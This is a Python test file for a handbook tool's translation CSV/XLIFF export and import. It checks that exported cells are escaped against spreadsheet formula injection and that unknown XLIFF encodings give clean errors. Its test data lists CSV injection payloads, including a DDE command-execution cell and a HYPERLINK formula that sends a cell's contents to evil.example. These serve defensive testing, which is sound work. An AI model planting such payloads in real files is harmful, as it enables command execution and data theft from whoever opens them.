"""A translator's file (``handbook translations export`` / ``import``) against hostile words:
a CSV cell from the sources never opens as a spreadsheet formula, and an XLIFF file that
declares an encoding Python does not know is an error at its place, not a traceback."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from build_tools.editor.translation_files import Segment, Unit, read_units, to_csv
from tests.conftest import MINI, handbook

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # an apostrophe of the text's own, kept on the way back
    "''@x",
]
PLAIN = ["Sie müssen sagen", "'quoted'", "6e22-7e27-fdbf-73ba", ""]


def _units(texts: list[str]) -> list[Unit]:
    segments = tuple(Segment(f"f{i}", text, text, text) for i, text in enumerate(texts))
    return [Unit("MINI-BASIC-01", "6e22-7e27-fdbf-73ba", segments)]


def test_no_exported_cell_starts_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_units(FORMULAS)).decode("utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, rows
    starts = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts == []
    targets = [row[4] for row in rows[1:]]
    assert targets == ["'" + text for text in FORMULAS]


def test_every_text_comes_back_exactly() -> None:
    texts = FORMULAS + PLAIN
    (unit,) = read_units(to_csv(_units(texts)), "de.csv")
    assert [s.target for s in unit.segments] == texts
    assert [s.source for s in unit.segments] == texts
    assert [s.old_source for s in unit.segments] == texts


def test_a_cell_a_spreadsheet_saved_without_its_apostrophe_still_reads() -> None:
    data = (
        b"key,field,old source,current source,current translation,fingerprint\r\n"
        b"MINI-BASIC-01,title,,Disclose your role,- Ihre Rolle,6e22-7e27-fdbf-73ba\r\n"
    )
    (unit,) = read_units(data, "de.csv")
    assert unit.segments[0].target == "- Ihre Rolle"


XLIFF = (
    '<?xml version="1.0" encoding="{}"?>\n'
    '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0"'
    ' xmlns:mda="urn:oasis:names:tc:xliff:metadata:2.0"><file id="f">'
    '<unit id="u1" name="MINI-BASIC-01"><mda:metadata><mda:metaGroup category="handbook">'
    '<mda:meta type="fingerprint">6e22-7e27-fdbf-73ba</mda:meta></mda:metaGroup></mda:metadata>'
    '<segment id="title"><source>a</source>'
    "<target>Ihre Rolle</target></segment></unit></file></xliff>\n"
)


@pytest.mark.parametrize("declared", ["x-nope", "utf-16", "UTF-8"])
def test_an_xliff_file_is_read_as_the_utf_8_it_is(declared: str) -> None:
    (unit,) = read_units(XLIFF.format(declared).encode("utf-8"), "de.xlf")
    assert unit.key == "MINI-BASIC-01"
    assert unit.segments[0].target == "Ihre Rolle"


def test_an_unknown_encoding_is_an_error_at_its_place_not_a_traceback(tmp_path: Path) -> None:
    src = tmp_path / "src"
    shutil.copytree(MINI, src)
    (src / "translations" / "de").mkdir(parents=True)
    (src / "translations" / "de" / "language.yml").write_text("name: Deutsch\n", "utf-8")
    bad = tmp_path / "de.xlf"
    bad.write_text(XLIFF.format("x-nope"), encoding="utf-8")
    before = sorted(p.name for p in (src / "translations/de").rglob("*"))
    run = handbook("translations", "import", "de", bad, "--source", src, "--dry-run")
    assert run.code == 1
    assert "Traceback" not in run.err
    assert f"{bad}:" in run.err or "de.xlf:" in run.err, run.err
    assert sorted(p.name for p in (src / "translations/de").rglob("*")) == before
